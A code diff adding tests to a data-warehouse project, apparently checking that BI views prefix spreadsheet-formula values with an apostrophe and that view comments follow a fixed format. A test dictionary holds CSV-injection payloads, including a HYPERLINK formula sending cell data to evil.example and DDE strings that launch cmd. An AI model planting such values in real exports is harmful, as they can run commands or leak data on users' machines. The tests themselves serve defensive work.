@@ -98,3 +98,93 @@ def test_day_summary_recomputes_rates_from_sums(warehouse: Warehouse) -> None:
 def test_version_changes_with_the_schema() -> None:
     assert views_version("a", "duckdb") != views_version("b", "duckdb")
     assert views_version("a", "duckdb") == views_version("a", "postgresql")  # one SQL
+
+
+# Identifiers as sources deliver them: formulas (OWASP's CSV-injection examples) and plain text.
+HOSTILE = {
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click")': "'",
+    "+cmd|' /C calc'!A0": "'",
+    "-2+3+cmd|' /C calc'!A0": "'",
+    "-Support": "'",  # legitimate, neutralised all the same: shown as text, not hidden
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'",
+    "\t=1+1": "'",
+    "\r=1+1": "'",
+    "AG-EXP-0003": "",
+    "care=plus": "",  # only the first character counts
+    "'already quoted": "",
+}
+
+
+def test_text_columns_are_neutralised_against_formula_injection(warehouse: Warehouse) -> None:
+    wh = warehouse
+    wh.create_tables(list(OUTCOME_TABLES.values()))
+    table = OUTCOME_TABLES["daily_output_vs_outcome"]
+    values = [*HOSTILE, None]
+    rows = pa.Table.from_pylist(
+        [
+            {"partition_date": DAY, "team": v, "agent_id": v, "resolution_gap": -0.25}
+            for v in values
+        ],
+        schema=table.arrow_schema,
+    )
+    detail_rows = pa.Table.from_pylist(
+        [
+            {"partition_date": DAY, "channel": v, "queue": v, "team": v, "segment": v}
+            for v in values
+        ],
+        schema=OUTCOME_TABLES["daily_outcomes"].arrow_schema,
+    )
+    end = DAY + timedelta(days=1)
+    wh.replace_partitions(
+        [
+            PartitionWrite(table, DAY, end, rows),
+            PartitionWrite(OUTCOME_TABLES["daily_outcomes"], DAY, end, detail_rows),
+        ]
+    )
+    with wh.begin() as conn:
+        create_bi_views(conn, wh.schema, wh.dialect)
+    expected = {v: HOSTILE[v] + v for v in HOSTILE} | {None: None}
+    shown = wh.query(
+        f"SELECT team, agent_id, resolution_gap FROM {wh.qualified('bi_output_vs_outcome')}"
+    ).to_pylist()
+    assert sorted(shown, key=str) == sorted(
+        [{"team": expected[v], "agent_id": expected[v], "resolution_gap": -0.25} for v in values],
+        key=str,
+    )  # a negative number is a number: untouched
+    detail = wh.query(
+        f"SELECT channel, queue, team, segment FROM {wh.qualified('bi_daily_outcomes')}"
+    ).to_pylist()
+    assert sorted(detail, key=str) == sorted(
+        [dict.fromkeys(("channel", "queue", "team", "segment"), expected[v]) for v in values],
+        key=str,
+    )
+    # The tables keep the source's values (joins back to the source systems).
+    raw = wh.query(f"SELECT agent_id FROM {wh.qualified(table.name)}").column(0).to_pylist()
+    assert sorted(raw, key=str) == sorted(values, key=str)
+
+
+def test_view_comments_say_what_a_row_is_without_a_code_tag(warehouse: Warehouse) -> None:
+    wh = warehouse
+    wh.create_tables(list(OUTCOME_TABLES.values()))
+    with wh.begin() as conn:
+        create_bi_views(conn, wh.schema, wh.dialect)
+    if wh.dialect == "postgresql":
+        sql = "SELECT obj_description(to_regclass(%(n)s), 'pg_class')"
+        with wh.begin() as conn:
+            comments = {
+                v: conn.exec_driver_sql(sql, {"n": wh.qualified(v)}).scalar()
+                for v in bi_view_sql(wh.schema)
+            }
+    else:
+        got = wh.query(
+            "SELECT view_name, comment FROM duckdb_views() "
+            f"WHERE schema_name = '{wh.schema}' AND view_name LIKE 'bi_%'"
+        ).to_pylist()
+        comments = {r["view_name"]: r["comment"] for r in got}
+    assert comments["bi_output_vs_outcome"].startswith(
+        "One row per business day x team x agent: handle time beside real resolution."
+    )
+    for view, comment in comments.items():
+        assert comment.startswith("One row per"), (view, comment)
+        assert "[" not in comment and "bi-views" not in comment, (view, comment)
+        assert "docs/data_dictionary.md" in comment
